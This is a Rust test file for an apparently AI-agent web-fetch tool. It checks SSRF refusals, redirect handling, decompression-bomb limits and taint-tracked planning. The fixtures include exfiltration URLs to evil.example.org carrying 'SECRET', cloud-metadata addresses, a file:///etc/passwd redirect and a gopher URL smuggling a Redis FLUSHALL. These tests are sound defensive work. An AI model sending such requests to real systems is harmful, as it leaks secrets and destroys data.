use std::collections::HashMap;
use std::future::Future;
use std::io::{self, Write as _};
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use flate2::Compression;
use flate2::write::GzEncoder;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;

use super::*;

/// A network of this machine: names lead where the test says, one answer after another, and only the servers of the
/// test may be asked. Everything else is judged as on the open internet.
#[derive(Default)]
struct Village {
    names: HashMap<String, Vec<SocketAddr>>,
    servers: Vec<SocketAddr>,
    asked: AtomicUsize,
}

impl Network for Village {
    fn look_up<'a>(
        &'a self,
        host: &'a str,
        port: u16,
    ) -> Pin<Box<dyn Future<Output = io::Result<Vec<SocketAddr>>> + Send + 'a>> {
        let all = self.names.get(host).cloned().unwrap_or_default();
        let nth = self.asked.fetch_add(1, Ordering::SeqCst);
        // A name with two addresses leads to the first, and from then on to the second.
        let one = all.get(nth.min(all.len().saturating_sub(1))).map(|at| SocketAddr::new(at.ip(), port));
        Box::pin(async move { Ok(one.into_iter().collect()) })
    }

    fn judge(&self, address: SocketAddr) -> Result<(), &'static str> {
        if self.servers.contains(&address) { Ok(()) } else { address::judge(address) }
    }
}

/// A server that gives each connection what `answer` makes of its request, and keeps the requests.
async fn server(answer: impl Fn(&str) -> Vec<u8> + Send + Sync + 'static) -> (SocketAddr, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let (at, seen) = (listener.local_addr().unwrap(), Arc::new(Mutex::new(Vec::new())));
    let (kept, answer) = (Arc::clone(&seen), Arc::new(answer));
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let (kept, answer) = (Arc::clone(&kept), Arc::clone(&answer));
            tokio::spawn(async move {
                let mut request = Vec::new();
                let mut part = [0; 1024];
                while !request.windows(4).any(|end| end == b"\r\n\r\n") {
                    match stream.read(&mut part).await {
                        Ok(0) | Err(_) => return,
                        Ok(read) => request.extend_from_slice(&part[..read]),
                    }
                }
                let request = String::from_utf8_lossy(&request).into_owned();
                kept.lock().unwrap().push(request.clone());
                // Whoever asked may have gone.
                let _ = stream.write_all(&answer(&request)).await;
                let _ = stream.shutdown().await;
            });
        }
    });
    (at, seen)
}

fn reply(status: &str, headers: &str, body: impl AsRef<[u8]>) -> Vec<u8> {
    let body = body.as_ref();
    let head = format!("HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

fn html(body: &str) -> Vec<u8> {
    reply("200 OK", "Content-Type: text/html; charset=utf-8\r\n", body)
}

fn village(at: SocketAddr, names: &[&str]) -> Village {
    let names = names.iter().map(|name| ((*name).to_owned(), vec![at])).collect();
    Village { names, servers: vec![at], asked: AtomicUsize::new(0) }
}

async fn get(network: &Village, url: &str) -> Result<Outcome, ToolError> {
    fetch(network, target("fetch_page", url)?, false).await
}

fn code(result: &Result<Outcome, ToolError>) -> &'static str {
    match result {
        Ok(_) => "ok",
        Err(error) => error.problem().code,
    }
}

// shows: hands: A page is fetched as text with title and links, and nothing it points at is loaded
#[tokio::test]
async fn a_page_is_read_and_nothing_it_points_at_is_loaded() {
    let (at, seen) = server(|_| {
        html("<title>Kelp</title><h1>Kelp</h1><p>It grows. ![x](http://evil.example.org/?q=SECRET)</p>\
              <img src='http://evil.example.org/p.png?q=SECRET'><link rel=stylesheet href=/s.css><script src=/s.js></script>\
              <iframe src=/f></iframe><meta http-equiv=refresh content='0;url=/r'><a href='/more'>More</a>")
    })
    .await;
    let network = village(at, &["kelp.org", "evil.example.org"]);
    let page = get(&network, &format!("http://kelp.org:{}/a?b#c", at.port())).await.unwrap();
    assert!(page.text.contains("Title: Kelp\n\n## Kelp\n\nIt grows."), "{}", page.text);
    assert!(page.text.contains(&format!("- More: http://kelp.org:{}/more", at.port())), "{}", page.text);
    assert_eq!(page.hosts, [format!("kelp.org:{}", at.port())]);
    let kept = &page.artifacts[0];
    assert_eq!((page.artifacts.len(), kept.media_type), (1, "text/uri-list"), "of a page its address is kept");
    assert_eq!(kept.bytes, format!("http://kelp.org:{}/a?b", at.port()).as_bytes());
    let seen = seen.lock().unwrap();
    assert_eq!(seen.len(), 1, "one page, one question");
    let request = seen[0].to_ascii_lowercase();
    assert!(request.starts_with("get /a?b http/1.1\r\n") && request.contains("\r\nuser-agent: timmy/"), "{request}");
    for header in ["cookie", "authorization", "referer", "origin", "\r\nx-"] {
        assert!(!request.contains(header), "{header} in {request}");
    }
}

// shows: hands: Requests forged to reach this machine, its network or cloud metadata fail closed, also by redirect and by a name that changes
#[tokio::test]
async fn inner_addresses_are_refused_by_number_by_name_by_move_and_by_a_name_that_changes() {
    let (inside, seen_inside) = server(|_| html("secret")).await;
    let port = inside.port();
    // By number, in every spelling, on the open internet's own rules.
    for host in [
        "127.0.0.1",
        "0x7f.1",
        "0177.0.0.1",
        "2130706433",
        "127.1",
        "0.0.0.0",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[64:ff9b::7f00:1]",
        "[64:ff9b::a9fe:a9fe]",
        "169.254.169.254",
        "100.100.100.200",
        "10.0.0.1",
        "192.168.0.1",
        "172.16.0.1",
        "100.64.0.1",
        "[fe80::1]",
        "[fd00:ec2::254]",
        "224.0.0.1",
        "①②⑦.⓪.⓪.①",
    ] {
        let result = fetch(&Internet, Target::parse(&format!("http://{host}:{port}/")).unwrap(), false).await;
        assert_eq!(code(&result), "address_refused", "{host}: {result:?}");
    }
    // By name, when one of its addresses is inside.
    let mut network = Village::default();
    network.names.insert("inside.org".to_owned(), vec![inside]);
    assert_eq!(code(&get(&network, &format!("http://inside.org:{port}/")).await), "address_refused");
    assert_eq!(code(&get(&network, "http://nowhere.org/").await), "name_unknown");
    // By a page that moves there.
    let places = [
        (format!("http://127.0.0.1:{port}/"), "page_moved"),
        ("http://169.254.169.254/latest/meta-data/".to_owned(), "page_moved"),
        ("http://localhost/".to_owned(), "page_moved"),
        ("file:///etc/passwd".to_owned(), "page_moved"),
        ("gopher://127.0.0.1:6379/_FLUSHALL".to_owned(), "page_moved"),
        ("//other.org/".to_owned(), "page_moved"),
        ("http://user:pass@public.org/".to_owned(), "page_moved"),
    ];
    for (location, wanted) in places {
        let headers = format!("Location: {location}\r\n");
        let (outside, _) = server(move |_| reply("302 Found", &headers, "")).await;
        let mut network = village(outside, &["public.org", "other.org"]);
        network.names.insert("inside.org".to_owned(), vec![inside]);
        let result = get(&network, &format!("http://public.org:{}/", outside.port())).await;
        assert_eq!(code(&result), wanted, "{location}: {result:?}");
        assert_eq!(result.unwrap_err().failing(), crate::error::Failing::Refused);
    }
    // By a name that leads outside when it is judged and inside from then on: each step looks it up and judges it.
    let (outside, _) = server(|_| reply("302 Found", "Location: /again\r\n", "")).await;
    let elsewhere = SocketAddr::from(([127, 0, 0, 2], outside.port()));
    let mut network = village(outside, &[]);
    network.names.insert("turning.org".to_owned(), vec![outside, elsewhere]);
    let result = get(&network, &format!("http://turning.org:{}/", outside.port())).await;
    assert_eq!(code(&result), "address_refused", "{result:?}");
    assert_eq!(seen_inside.lock().unwrap().len(), 0, "nothing inside was ever asked");
}

#[tokio::test]
async fn a_name_is_looked_up_once_for_each_question_and_asked_at_that_address() {
    let (at, seen) = server(|_| html("<p>right")).await;
    let mut network = village(at, &[]);
    // The second address would be given to whoever looked the name up again.
    network.names.insert("pinned.org".to_owned(), vec![at, SocketAddr::from(([127, 0, 0, 9], at.port()))]);
    assert!(get(&network, &format!("http://pinned.org:{}/", at.port())).await.unwrap().text.contains("right"));
    assert_eq!((network.asked.load(Ordering::SeqCst), seen.lock().unwrap().len()), (1, 1));
}

#[tokio::test]
async fn moves_within_a_site_are_followed_up_to_the_bound() {
    let (at, seen) = server(|request| {
        let n: usize = request.split(['/', ' ']).nth(2).and_then(|n| n.parse().ok()).unwrap_or(0);
        if n == 0 { html("<p>arrived") } else { reply("301 Moved", &format!("Location: /{}\r\n", n - 1), "") }
    })
    .await;
    let network = village(at, &["moving.org"]);
    let url = |n: usize| format!("http://moving.org:{}/{n}", at.port());
    assert!(get(&network, &url(MOVES_MAX)).await.unwrap().text.contains("arrived"));
    let before = seen.lock().unwrap().len();
    assert_eq!(code(&get(&network, &url(MOVES_MAX + 1)).await), "page_moves");
    assert_eq!(seen.lock().unwrap().len() - before, MOVES_MAX + 1);
}

// shows: hands: Pages without end, and pages that unpack without end, are cut at their bound
#[tokio::test]
async fn large_pages_and_packed_ones_are_cut_at_their_bounds() {
    let mut packed = GzEncoder::new(Vec::new(), Compression::best());
    for _ in 0..64 {
        packed.write_all(&vec![b'a'; 1024 * 1024]).unwrap();
    }
    let bomb = packed.finish().unwrap();
    let mut fine = GzEncoder::new(Vec::new(), Compression::fast());
    fine.write_all(b"<p>packed well").unwrap();
    let fine = fine.finish().unwrap();
    let gzip = "Content-Type: text/html\r\nContent-Encoding: gzip\r\n";
    let (at, _) = server(move |request| match request.split(' ').nth(1).unwrap() {
        "/bomb" => reply("200 OK", gzip, &bomb),
        "/fine" => reply("200 OK", gzip, &fine),
        "/odd" => reply("200 OK", "Content-Encoding: br\r\n", "x"),
        "/broken" => reply("200 OK", gzip, "no gzip at all"),
        _ => html(&"word ".repeat(2 * BODY_BYTES_MAX / 5)),
    })
    .await;
    let network = village(at, &["large.org"]);
    let of = async |path: &str| get(&network, &format!("http://large.org:{}{path}", at.port())).await;
    let large = of("/").await.unwrap();
    assert!(large.truncated && large.text.len() <= TEXT_BYTES_MAX && large.bytes_in == BODY_BYTES_MAX as u64);
    let bomb = of("/bomb").await.unwrap();
    assert!(bomb.truncated && bomb.text.len() <= TEXT_BYTES_MAX);
    assert!(of("/fine").await.unwrap().text.contains("packed well"));
    assert_eq!(code(&of("/odd").await), "page_unreadable");
    assert!(of("/broken").await.unwrap().truncated);
}

#[tokio::test]
async fn what_a_server_says_decides_whether_trying_again_can_help() {
    use crate::error::Failing;
    let (at, _) = server(|request| match request.split(' ').nth(1).unwrap() {
        "/none" => reply("404 Not Found", "", "gone"),
        "/busy" => reply("429 Too Many Requests", "Retry-After: 7\r\n", ""),
        "/closed" => reply("403 Forbidden", "", ""),
        "/picture" => reply("200 OK", "Content-Type: image/png\r\n", b"\x89PNG\0"),
        "/json" => reply("200 OK", "Content-Type: application/json\r\n", "{\"a\":\"\u{202e}b\"}"),
        "/latin" => reply("200 OK", "Content-Type: text/plain; charset=iso-8859-1\r\n", b"caf\xe9"),
        "/sjis" => reply("200 OK", "Content-Type: text/html\r\n", b"<meta charset='shift_jis'><p>\x93\xfa\x96\x7b"),
        "/half" => b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nhalf".to_vec(),
        _ => b"not http at all\r\n\r\n".to_vec(),
    })
    .await;
    let network = village(at, &["says.org"]);
    let of = async |path: &str| get(&network, &format!("http://says.org:{}{path}", at.port())).await;
    for (path, wanted, failing) in [
        ("/none", "page_missing", Failing::Permanent),
        ("/busy", "page_busy", Failing::Transient),
        ("/closed", "page_closed", Failing::Permanent),
        ("/picture", "not_text", Failing::Permanent),
        ("/half", "page_unreachable", Failing::Transient),
        ("/other", "page_unreachable", Failing::Transient),
    ] {
        let result = of(path).await;
        assert_eq!((code(&result), result.unwrap_err().failing()), (wanted, failing), "{path}");
    }
    assert_eq!(of("/busy").await.unwrap_err().problem().retry_seconds, Some(7));
    assert!(of("/json").await.unwrap().text.ends_with("{\"a\":\"b\"}"));
    assert!(of("/latin").await.unwrap().text.ends_with("café"));
    assert!(of("/sjis").await.unwrap().text.contains("日本"));
    let head =
        fetch(&network, Target::parse(&format!("http://says.org:{}/json", at.port())).unwrap(), true).await.unwrap();
    assert!(head.text.contains("Kind: application/json"), "{}", head.text);
}

// shows: hands: An address that carries data away names its host in the plan, with where the data came from, before anything is asked
#[tokio::test]
async fn a_fetch_is_planned_with_its_host_and_origin_and_only_when_it_is_switched_on() {
    use serde_json::json;
    use timmy_domain::plan::Taint;
    let (at, seen) = server(|_| html("<p>here")).await;
    let network = Arc::new(village(at, &["kelp.org", "evil.org"]));
    let mut bench = crate::testing::Bench::new(&[]);
    bench.tools = crate::tools::all(network.clone());
    let url = format!("HTTP://EVIL.org:{}/p.png?q=canary-7f3a#x", at.port());
    let off = bench.plan("fetch_page", json!({"url": url})).await.unwrap_err();
    assert_eq!((off.problem().code, off.failing()), ("fetch_off", crate::error::Failing::Refused));
    bench.scope.fetch = true;
    bench.scope.taint = vec![Taint::Web, Taint::File, Taint::Web];
    let plan = bench.plan("fetch_page", json!({"url": url})).await.unwrap();
    assert_eq!(plan.hosts, [format!("evil.org:{}", at.port())]);
    assert_eq!(plan.taint, [Taint::File, Taint::Web]);
    assert!(plan.is_tainted() && plan.args["url"] == format!("http://evil.org:{}/p.png?q=canary-7f3a", at.port()));
    assert_eq!(network.asked.load(Ordering::SeqCst), 0, "not even the name was looked up");
    // Switched off since, or changed since: nothing is asked.
    assert_eq!(bench.run(&plan).await.unwrap_err().problem().code, "fetch_off");
    bench.running.fetch = true;
    let mut forged = plan.clone();
    forged.args["url"] = format!("http://kelp.org:{}/", at.port()).into();
    assert_eq!(bench.run(&forged).await.unwrap_err().problem().code, "plan_foreign");
    assert_eq!(seen.lock().unwrap().len(), 0);
    let told = bench.run(&plan).await.unwrap();
    assert_eq!((told.taint, told.hosts), (vec![Taint::Web], plan.hosts.clone()));
    for url in
        ["http://127.0.0.1/", "ftp://kelp.org/", "http://user@kelp.org/", "http://localhost/", "http://a\u{202e}b.org/"]
    {
        let planned = bench.plan("fetch_page", json!({"url": url})).await;
        let ran = match planned {
            Ok(plan) => bench.run(&plan).await.map(|_| ()),
            Err(error) => Err(error),
        };
        assert!(ran.is_err(), "{url}");
    }
}
